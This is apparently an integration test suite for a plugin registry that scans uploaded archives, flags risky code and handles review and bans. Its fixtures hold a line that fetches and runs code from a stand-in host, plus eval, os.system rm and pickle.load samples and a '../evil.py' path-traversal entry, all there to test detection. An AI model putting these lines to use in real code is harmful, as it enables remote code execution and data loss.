import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { before, describe, test } from 'node:test'

import { EXTRACTOR_VERSION } from '../../../packages/inspector/src/versions.ts'
import { waitFor } from '../../support/wait.ts'
import { writeZip } from '../../support/zip-writer.ts'
import { columnsOf, expectStatus, listOf, memberOf, pluck } from '../../support/client.ts'
import { ADMIN, untilDecided, upload, usePublisher, useRegistry } from './registry-support.ts'
import type { Added } from './registry-support.ts'
import { openTemporal } from '../../support/temporal-client.ts'

const ACTIVE = 'NodeVersionStatusActive'

const FLAGGED = 'NodeVersionStatusFlagged'
const EXTRACTION_TOKEN = 'extraction-token-of-this-test'

const registry = useRegistry({ roles: ['api', 'core', 'media'] })
const { anonymous, admin, sql, service } = registry
const owned = usePublisher(registry, { id: 'acme', user: 'olga' })
const { owner } = owned
/** A second api with EXTRACTION_TOKEN. */
let trustedUrl: string

registry.prepare(async () => {
  trustedUrl = (await service.startSecondApi({ EXTRACTION_TOKEN })).baseUrl
})

/** Uploads the archive of a version and waits for its verdict. */
const send = async ({ signedUrl, version }: Added, zip: Buffer) => {
  assert.equal((await upload(signedUrl, zip)).status, 200)
  return await untilDecided(registry, version)
}

const pack = (files: Record<string, string>): Buffer =>
  writeZip(Object.entries(files).map(([name, data]) => ({ name, data, method: 8 })))

interface Decided {
  added: Added
  /** Path of the version, which is as `seen` once it is decided on. */
  path: string
  seen: Record<string, unknown>
}

const add = async (files: Record<string, string> | Buffer): Promise<Decided> => {
  const added = await owned.addVersion()
  const seen = await send(added, Buffer.isBuffer(files) ? files : pack(files))
  return { added, path: added.version, seen }
}

/** Reads what members see of a version. */
const readFindings = async (path: string): Promise<Record<string, unknown>> =>
  expectStatus(await owner.get(`${path}/findings`), 200).body

const readNames = async (path: string): Promise<unknown[]> =>
  pluck(listOf(await anonymous.get(`${path}/host-nodes`), 'host_nodes'), 'host_node_name')

const reviewed = async (): Promise<unknown[]> =>
  pluck(listOf(await admin.get('/versions?review_requested=true'), 'versions'))

const GOOD = {
  'kiln-cups/__init__.py': `from .cups import Cup, Pot
NODE_CLASS_MAPPINGS = {"Kiln Cup": Cup, "Kiln/Pot ": Pot}
NODE_DISPLAY_NAME_MAPPINGS = {"Kiln Cup": "Cup \u2615"}
`,
  'kiln-cups/cups.py': `import folder_paths
class Cup:
    """Not the description."""
    CATEGORY = "kiln/ware"
    DESCRIPTION = "Throws a cup\u00e9."
    FUNCTION = "throw"
    RETURN_TYPES = ("IMAGE", ["a", "b"])
    RETURN_NAMES = ("cup", "kind")
    OUTPUT_IS_LIST = (True, False)
    DEPRECATED = True
    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"height": ("FLOAT", {"default": 1.0, "max": 1e-05}), "2": ("INT",)},
                "optional": {"clay": (["red", "white"],), "glaze": (folder_paths.get_filename_list("x"),)}}

class Pot:
    RETURN_TYPES = ()
    EXPERIMENTAL = True
    OUTPUT_NODE = True
`,
  'kiln-cups/pyproject.toml': '[project]\nname = "kiln-cups"\n',
}

const minimal = (names: readonly string[], more = ''): Record<string, string> => ({
  '__init__.py': `class Cup: RETURN_TYPES = ("IMAGE",)
NODE_CLASS_MAPPINGS = {${names.map((name) => `"${name}": Cup`).join(', ')}}
${more}`,
})

describe('a good pack', () => {
  let good: Decided
  before(async () => {
    good = await add(GOOD)
  })

  test('is Active, with its host nodes and their fields', async () => {
    const { seen: version, path } = good
    assert.deepEqual(
      [version['status'], version['status_reason'], version['host_node_extract_status']],
      [ACTIVE, 'Passed automated checks', 'success'],
    )
    const { body } = expectStatus(await anonymous.get(`${path}/host-nodes`), 200)
    assert.equal(body['total'], 2)
    assert.deepEqual(body['host_nodes'], [
      {
        host_node_name: 'Kiln Cup',
        display_name: 'Cup \u2615',
        category: 'kiln/ware',
        description: 'Throws a cup\u00e9.',
        function: 'throw',
        deprecated: true,
        experimental: false,
        output_node: false,
        input_types:
          '{"required":{"height":["FLOAT",{"default":1,"max":0.00001}],"2":["INT"]},"optional":{"clay":[["red","white"]],"glaze":[[]]}}',
        return_types: '["IMAGE",["a","b"]]',
        return_names: '["cup","kind"]',
        output_is_list: [true, false],
        dynamic: ['input_types.glaze'],
        policy: 'HostNodePolicyActive',
      },
      {
        host_node_name: 'Kiln/Pot ',
        category: 'sd',
        description: '',
        function: '',
        deprecated: false,
        experimental: true,
        output_node: true,
        input_types: '{"required":{}}',
        return_types: '[]',
        return_names: '[]',
        output_is_list: [],
        dynamic: [],
        policy: 'HostNodePolicyActive',
      },
    ])
    assert.deepEqual(version['host_nodes'], { count: 2, partial: false, source: 'derived' })
    assert.deepEqual(version['tags_admin'], [])
    const { findings, extraction, counts } = await readFindings(path)
    assert.deepEqual(
      [findings, extraction, counts],
      [
        [],
        { status: 'success', source: 'derived', partial: false },
        { high: 0, medium: 0, info: 0 },
      ],
    )
  })

  test('was read by workflows that say what they do, and of which histories hold little', async (t) => {
    const { workflow } = await openTemporal(t)
    for (const kind of ['publish-version', 'receive-archive', 'extract-host-nodes']) {
      const handle = workflow.getHandle(`${kind}/${good.added.id}`)
      const completed = await waitFor(`${kind} has completed`, async () => {
        const found = await handle.describe()
        return found.status.name === 'COMPLETED' && found
      })
      const attributes = new Map(
        completed.typedSearchAttributes.getAll().map(({ key, value }) => [key.name, value]),
      )
      const known = ['KilnPublisher', 'KilnNode', 'KilnVersion', 'KilnKind', 'KilnOwner']
      assert.deepEqual(
        known.map((name) => attributes.get(name)),
        ['acme', good.added.nodeId, '1.0.0', 'publish', 'olga'],
      )
      const summary = await completed.staticSummary()
      assert.ok(summary?.includes(`${good.added.nodeId}@1.0.0`), `${kind}: ${summary}`)
      if (kind !== 'publish-version')
        assert.equal(completed.parentExecution?.workflowId, `publish-version/${good.added.id}`)
      const payloads = listPayloads(await handle.fetchHistory())
      assert.ok(payloads.length > 0, 'there are payloads')
      for (const payload of payloads) {
        assert.ok(payload.length < 2048, `${kind}: ${payload.length} bytes`)
        assert.doesNotMatch(payload.toString(), /Kiln Cup|kiln\/ware|INPUT_TYPES/)
      }
    }
  })
})

/** The bytes of every payload of a history. */
const listPayloads = (value: unknown): Buffer[] => {
  if (typeof value !== 'object' || value === null || value instanceof Uint8Array) return []
  return Object.entries(value).flatMap(([name, member]) =>
    name === 'data' && member instanceof Uint8Array ? [Buffer.from(member)] : listPayloads(member),
  )
}

const SECRET_LINE = 'exec(requests.get("https://x.example/payload").text)'

describe('a pack with a finding of high severity', () => {
  let bad: Decided
  before(async () => {
    bad = await add(minimal(['Kiln Bad'], `import requests\n\n${SECRET_LINE}\n`))
  })

  test('is Flagged with a sentence that names the rule, and no file', async () => {
    const { seen: version } = bad
    assert.equal(version['status'], FLAGGED)
    assert.equal(
      version['status_reason'],
      '1 finding flags this version; the worst: Code from the network is run',
    )
    // What it provides is known all the same.
    assert.equal(version['host_node_extract_status'], 'success')
    assert.deepEqual(await readNames(bad.path), ['Kiln Bad'])
    expectStatus(await anonymous.get('/host-nodes/Kiln%20Bad/node'), 404, 'host_node_not_found')
  })

  test('shows its findings to members, and to others how many there are', async () => {
    const { counts, scanned_at: at, findings, moves: transitions } = await readFindings(bad.path)
    const [{ id, ...finding } = { id: '' }, ...rest] = findings as { id: string }[]
    assert.match(id, /^[0-9a-f-]{36}$/)
    assert.deepEqual(rest, [])
    assert.deepEqual(finding, {
      issue_type: 'exec-network',
      severity: 'high',
      file_path: '__init__.py',
      line_number: 5,
      code_snippet: SECRET_LINE,
      message: String((finding as { message?: string }).message),
      scanner: 'kiln',
      scanner_version: String((finding as { scanner_version?: string }).scanner_version),
    })
    assert.ok(Array.isArray(transitions), 'and its moves')
    const asEverybody = expectStatus(await anonymous.get(`${bad.path}/findings`), 200)
    assert.deepEqual(asEverybody.body, { counts, scanned_at: at })
    const asAdmin = expectStatus(await admin.get(`${bad.path}/findings`), 200)
    assert.deepEqual(asAdmin.body['findings'], findings)
  })

  test('is Active when its owner asks for a review and an admin finds it harmless', async () => {
    const { id, nodeId, node, ownVersion } = bad.added
    expectStatus(await owner.post(`${ownVersion}/review`, { note: 'it is ours' }), 201)
    const [asked] = listOf(await admin.get('/versions?sort=review'), 'versions')
    const { review, findings: counts } = memberOf({ body: asked ?? {} }, 'moderation')
    assert.deepEqual([asked?.['id'], (counts as { high?: number }).high], [id, 1])
    assert.equal((review as { note?: string }).note, 'it is ours')
    assert.deepEqual(await reviewed(), [id])
    const activate = { status: ACTIVE, status_reason: 'looked at' }
    expectStatus(await admin.put(`/admin${bad.path}`, activate), 200)
    assert.deepEqual(await reviewed(), [])
    expectStatus(await anonymous.get(`${node}/install`), 200)
    const found = await anonymous.get('/host-nodes/Kiln%20Bad/node')
    assert.equal(expectStatus(found, 200).body['id'], nodeId)
    const { reviews, findings, moves: transitions } = await readFindings(bad.path)
    assert.deepEqual(pluck(reviews as object[], 'note'), ['it is ours'])
    assert.equal((findings as object[]).length, 1)
    assert.deepEqual(pluck(transitions as object[], 'actor'), [
      'user:olga',
      'workflow',
      'workflow',
      `user:${ADMIN}`,
    ])
    assert.deepEqual(
      pluck((transitions as object[]).slice(1), 'from'),
      pluck((transitions as object[]).slice(0, -1), 'to'),
    )
  })
})

describe('the files of a version', () => {
  /** Repeated bytes would be a bomb. */
  const NUMBERS = Buffer.from(Array.from({ length: 200_000 }, (_, index) => index).join(' '))
  const FILES: Record<string, Buffer> = {
    '__init__.py': Buffer.from('WEB_DIRECTORY = "./web"\n'.repeat(50)),
    'Ünï code/empty.txt': Buffer.alloc(0),
    'bom.txt': Buffer.from([0xef, 0xbb, 0xbf, 0x63, 0xe9, 0x21]),
    'data.csv': Buffer.from([0x61, 0, 0x62]),
    'large.txt': NUMBERS.subarray(0, 1_048_577),
    'most.txt': NUMBERS.subarray(0, 1_048_576),
    'stored.txt': Buffer.from('as it is'),
  }
  let files: Decided
  before(async () => {
    const entries = Object.entries(FILES).map(([name, data]) => ({
      name,
      data,
      method: name === 'stored.txt' ? 0 : 8,
    }))
    files = await add(writeZip(entries))
  })

  const readFile = (name: string, client = anonymous) =>
    client.get(`${files.path}/files/content?path=${encodeURIComponent(name)}`)

  test('are listed with their digests, and read as text', async () => {
    const list = await anonymous.get(`${files.path}/files`)
    const digest = (data: Buffer) => createHash('sha256').update(data).digest('hex')
    const expected = Object.entries(FILES)
      .map(([path, data]) => ({ path, bytes: data.length, sha256: digest(data) }))
      .toSorted((a, b) => (a.path < b.path ? -1 : 1))
    assert.deepEqual(expectStatus(list, 200).body, { files: expected })
    for (const file of expected.filter(({ path }) => !['data.csv', 'large.txt'].includes(path))) {
      const { body } = expectStatus(await readFile(file.path), 200)
      const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(FILES[file.path])
      assert.deepEqual(body, { ...file, text }, file.path)
    }
    for (const path of [`${files.path}/files`, `${files.path}/files/content?path=stored.txt`]) {
      const etag = (await anonymous.get(path)).headers.get('etag') ?? ''
      assert.equal((await anonymous.get(path, { 'if-none-match': etag })).status, 304)
    }
  })

  test('files that are no text, too large or not there get errors of their own', async () => {
    expectStatus(await readFile('data.csv'), 415, 'file_not_text')
    expectStatus(await readFile('large.txt'), 413, 'file_too_large')
    for (const name of ['none.py', '__INIT__.py', '../__init__.py', '', '/'])
      expectStatus(await readFile(name), 404, 'file_not_found')
    for (const query of ['', `?path=${'x'.repeat(513)}`, '?path=%00', '?path=a&path=b']) {
      const rejected = await anonymous.get(`${files.path}/files/content${query}`)
      const { details } = expectStatus(rejected, 400, 'validation_failed').body
      assert.match(details?.[0] ?? '', /^\?path/, query)
    }
  })

  test('are for members and admins alone unless it is Active, and for nobody else once it is banned', async () => {
    const stranger = (await registry.addUser()).client
    const awaited = await owned.addVersion()
    const rejected = await add(Buffer.from('PK\u{3}\u{4}no zip'))
    const flagged = await add(minimal(['Kiln Held'], `import requests\n${SECRET_LINE}\n`))
    for (const rest of ['/files', '/files/content?path=__init__.py']) {
      for (const client of [owner, admin]) {
        expectStatus(await client.get(flagged.path + rest), 200)
        for (const path of [awaited.version, rejected.path]) {
          expectStatus(await client.get(path + rest), 404, 'archive_not_found')
        }
      }
      for (const client of [anonymous, stranger]) {
        expectStatus(await client.get(flagged.path + rest), 403, 'version_blocked')
        expectStatus(await client.get(awaited.version + rest), 404, 'archive_not_found')
      }
    }
    const etag = (await readFile('stored.txt')).headers.get('etag') ?? ''
    const ban = { status: 'NodeStatusBanned', status_detail: 'malware' }
    expectStatus(await admin.put(`/admin${files.added.node}`, ban), 200)
    expectStatus(await readFile('stored.txt', admin), 200)
    const path = `${files.path}/files/content?path=stored.txt`
    for (const client of [anonymous, owner])
      expectStatus(await client.get(path, { 'if-none-match': etag }), 403, 'node_banned')
  })
})

test('findings of lower severity never flag; those of medium severity show in tags', async () => {
  const { seen: version, path } = await add({
    ...minimal(
      ['Kiln Odd'],
      'import os, pickle, requests, subprocess\nfrom elsewhere import X\neval(os.environ["X"])\nos.system(f"rm {X}")\npickle.load(X)\nrequests.get(X)\nsubprocess.run(["ls"])\n',
    ),
    'requirements.txt': 'git+https://git.example.com/a.git\n',
  })
  assert.deepEqual([version['status'], version['host_node_extract_status']], [ACTIVE, 'success'])
  const tags = version['tags_admin'] as string[]
  const rules = ['dynamic-code', 'foreign-requirement', 'shell', 'unsafe-load']
  assert.deepEqual(
    tags.toSorted(),
    rules.map((rule) => `security:${rule}`),
  )
  const { counts, findings } = await readFindings(path)
  const { high, medium, info } = counts as Record<string, number>
  assert.deepEqual([high, medium], [0, 4])
  assert.ok(info && info > 0, 'and some of info')
  assert.deepEqual(pluck(findings as { severity: string }[], 'severity'), [
    'medium',
    'medium',
    'medium',
    'medium',
  ])
})

test('content that an admin has banned is Flagged under the next number; admins alone see whose it is', async () => {
  const files = (version: string) => ({
    ...minimal(['Kiln Bad'], `# ${'bad '.repeat(99)}`),
    'pyproject.toml': `[project]\nversion = "${version}"\n`,
  })
  const bad = await add(files('1.0.0'))
  const ban = { status: 'NodeVersionStatusBanned', status_reason: 'malware' }
  expectStatus(await admin.put(`/admin${bad.path}`, ban), 200)
  const { nodeId } = bad.added
  const again = await owned.addVersion({ nodeId, version: '2.0.1' })
  const seen = await send(again, pack(files('2.0.1')))
  assert.equal(seen['status'], FLAGGED)
  assert.match(
    String(seen['status_reason']),
    /^1 finding flags this version; the worst: A platform/,
  )
  assert.equal('latest_version' in (await anonymous.get(again.node)).body, false)
  const own = expectStatus(await owner.get(`${again.version}/findings`), 200)
  assert.deepEqual(columnsOf(listOf(own, 'findings'), 'issue_type', 'severity', 'same_as'), [
    ['banned-content', 'high', undefined],
  ])
  assert.ok(!('same_content' in own.body))
  const all = expectStatus(await admin.get(`${again.version}/findings`), 200)
  assert.deepEqual(pluck(listOf(all, 'findings'), 'same_as'), [`${nodeId}@1.0.0`])
  assert.deepEqual(listOf(all, 'same_content'), [
    { node_id: nodeId, version: '1.0.0', status: 'NodeVersionStatusBanned' },
  ])
})

test('an archive that is rejected is Flagged with what is wrong with it', async () => {
  const zip = writeZip([
    { name: '__init__.py', data: 'NODE_CLASS_MAPPINGS = {}\n' },
    { name: '../evil.py', data: 'x' },
  ])
  const { seen: version, path, added } = await add(zip)
  assert.deepEqual([version['status'], version['host_node_extract_status']], [FLAGGED, 'failed'])
  assert.equal('downloadUrl' in version, false)
  const { findings, counts, extraction } = await readFindings(path)
  assert.deepEqual(extraction, {
    status: 'failed',
    reason: 'archive_path_traversal',
    source: 'derived',
    partial: false,
  })
  assert.deepEqual(counts, { high: 1, medium: 0, info: 0 })
  const [finding, ...rest] = findings as Record<string, string>[]
  assert.deepEqual(rest, [])
  assert.deepEqual(
    [finding?.['issue_type'], finding?.['severity'], finding?.['file_path']],
    ['archive_path_traversal', 'high', '../evil.py'],
  )
  assert.match(String(finding?.['message']), /evil\.py/)
  assert.equal(
    version['status_reason'],
    'The archive was rejected (path_traversal): A name leads out of its folder by "..": zip the pack from inside its folder, so that names are relative to it; mend it and publish the same version again: its number is free',
  )
  expectStatus(await admin.post(`/admin${path}/retry`, {}), 409, 'nothing_to_retry')
  const { nodeId, ownVersion } = added
  const review = expectStatus(await owner.post(`${ownVersion}/review`, {}), 409, 'not_reviewable')
  assert.match(review.body.message ?? '', /publish the same version again/)
  const link = `/archives/acme/${nodeId}/1.0.0/node.zip`
  for (const user of ['olga', ADMIN]) {
    const headers = { authorization: `Bearer ${await service.token(user)}` }
    const archive = await fetch(service.baseUrl + link, { headers })
    assert.deepEqual(Buffer.from(await archive.arrayBuffer()), zip)
    assert.equal(archive.headers.get('cache-control'), 'private, no-store')
  }
  expectStatus(await anonymous.get(link), 403, 'version_blocked')
  const again = await owned.addVersion({ nodeId })
  const mended = await send(again, pack(minimal(['Kiln Mended'])))
  assert.deepEqual([mended['id'], mended['status']], [again.id, ACTIVE])
  const all = listOf(
    await anonymous.get(`${added.node}/versions?statuses=NodeVersionStatusDeleted`),
  )
  assert.deepEqual(pluck(all), [added.id])
})

describe('a pack without host nodes', () => {
  test('is Active with none when it is one of scripts for the browser', async () => {
    const { seen: version, path } = await add({
      '__init__.py': 'WEB_DIRECTORY = "./js"\nNODE_CLASS_MAPPINGS = {}\n',
      'js/a.js': 'export {}\n',
    })
    assert.deepEqual([version['status'], version['host_node_extract_status']], [ACTIVE, 'success'])
    assert.deepEqual(await readNames(path), [])
  })

  for (const [files, reason] of [
    [{ 'README.md': 'x' }, 'no_init'],
    [{ '__init__.py': 'x = 1\n' }, 'no_mapping'],
  ] as const)
    test(`is Active, and its extraction says ${reason}`, async () => {
      const { seen: version, path } = await add(files)
      assert.deepEqual([version['status'], version['host_node_extract_status']], [ACTIVE, 'failed'])
      const { extraction } = await readFindings(path)
      assert.deepEqual(extraction, { status: 'failed', reason, source: 'derived', partial: false })
      assert.equal(version['host_node_extract_reason'], reason)
      assert.match(String(version['host_node_extract_advice']), /^The pack .+: (put|define) /)
    })
})

describe('an extraction that failed', () => {
  const untilSettled = async (path: string): Promise<unknown> =>
    await waitFor('the extraction has ended', async () => {
      const { body } = await anonymous.get(path)
      return body['host_node_extract_status'] !== 'pending' && body['host_node_extract_status']
    })
  const retry = async (path: string): Promise<void> => {
    const { body } = expectStatus(await admin.post(`/admin${path}/retry`, {}), 200)
    assert.deepEqual([body['status'], body['host_node_extract_status']], [ACTIVE, 'pending'])
  }

  test('is made again when an admin retries it, from the archive', async () => {
    const {
      path,
      added: { id },
    } = await add(minimal(['Kiln Late']))
    // As if the reading had never ended.
    await sql`delete from extraction where version_id = ${id}`
    await sql`delete from host_node where version_id = ${id}`
    await sql`
      update version
      set host_node_extract_status = 'failed', extract_reason = 'timed_out', extract_source = 'derived'
      where id = ${id}
    `
    const { extraction } = await readFindings(path)
    assert.deepEqual(extraction, {
      status: 'failed',
      reason: 'timed_out',
      source: 'derived',
      partial: false,
    })
    await retry(path)
    assert.equal(await untilSettled(path), 'success')
    assert.deepEqual(await readNames(path), ['Kiln Late'])
    assert.equal((await anonymous.get(path)).body['status'], ACTIVE)
    expectStatus(await admin.post(`/admin${path}/retry`, {}), 409, 'nothing_to_retry')
  })
})

describe('a report of host nodes', () => {
  const report = { nodes: { 'Kiln Cup': { category: 'reported' }, 'Kiln Reported': {} } }
  const trusted = async (path: string, body: object): Promise<number> => {
    const { status } = await fetch(`${trustedUrl}${path}/host-nodes`, {
      method: 'POST',
      headers: { authorization: `Bearer ${EXTRACTION_TOKEN}`, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    })
    return status
  }

  test('that anybody could send gives way to what the archive says; the policy of operators stays', async () => {
    const published = await owned.addVersion()
    const { version: path } = published
    expectStatus(await anonymous.post(`${path}/host-nodes`, report), 204)
    assert.deepEqual(await readNames(path), ['Kiln Cup', 'Kiln Reported'])
    const banned = { host_node_policies: { 'Kiln Cup': 'HostNodePolicyBanned' } }
    expectStatus(await admin.put(`/admin${path}`, banned), 200)
    const version = await send(published, pack(minimal(['Kiln Cup', 'Kiln New'])))
    assert.deepEqual([version['status'], version['host_node_extract_status']], [ACTIVE, 'success'])
    assert.deepEqual(await readNames(path), ['Kiln Cup', 'Kiln New'])
    const { body } = await anonymous.get(`${path}/host-nodes/Kiln%20Cup`)
    assert.deepEqual([body['policy'], body['category']], ['HostNodePolicyBanned', 'sd'])
    expectStatus(await anonymous.post(`${path}/host-nodes`, report), 409, 'already_registered')
    assert.equal(await trusted(path, report), 409)
  })

  test('is replaced by the next one of a member, also after an archive that cannot be read', async () => {
    const published = await owned.addVersion()
    const { version: path } = published
    const say = async (name: string) =>
      expectStatus(await owner.post(`${path}/host-nodes`, { nodes: { [name]: {} } }), 204)
    await say('Kiln Cop')
    await say('Kiln Cup')
    assert.deepEqual(await readNames(path), ['Kiln Cup'])
    const { host_nodes } = await send(published, pack({ 'README.md': 'x' }))
    const { count, partial, source } = host_nodes as Record<string, unknown>
    assert.deepEqual([count, partial, source], [1, false, 'reported'])
    await say('Kiln Mug')
    assert.deepEqual(await readNames(path), ['Kiln Mug'])
  })

  test('after a failure to read the archive is taken from members and whoever is trusted alone', async () => {
    const stranger = (await registry.addUser()).client
    const senders = [
      ['trusted', trusted],
      [
        'reported',
        async (path: string, body: object) => (await owner.post(`${path}/host-nodes`, body)).status,
      ],
    ] as const
    for (const [source, send] of senders) {
      const { path } = await add({ 'README.md': 'x' })
      for (const client of [anonymous, stranger])
        for (const body of [report, { success: false }]) {
          const closed = await client.post(`${path}/host-nodes`, body)
          const { message } = expectStatus(closed, 403, 'registration_closed').body
          assert.match(message ?? '', /could not be read .* members .* may report them/)
        }
      assert.equal(await send(path, report), 204)
      assert.deepEqual(await readNames(path), ['Kiln Cup', 'Kiln Reported'])
      const { extraction } = await readFindings(path)
      assert.deepEqual(extraction, { status: 'success', source, partial: false })
    }
  })
})

test('a workflow that stores host nodes takes the reading of a worker that has a newer extractor', async () => {
  const published = await owned.addVersion()
  // The worker that reads has been renewed, and the one that stores has not.
  await sql`
    create function newer() returns trigger language plpgsql as
      'begin new.extractor_version = ${sql.unsafe(String(EXTRACTOR_VERSION + 1))}; return new; end'
  `
  await sql`create trigger newer before insert on extraction for each row execute function newer()`
  try {
    const version = await send(published, pack(minimal(['Kiln New'])))
    assert.equal(version['host_node_extract_status'], 'success')
    assert.deepEqual(await readNames(published.version), ['Kiln New'])
  } finally {
    await sql`drop trigger newer on extraction`
  }
})
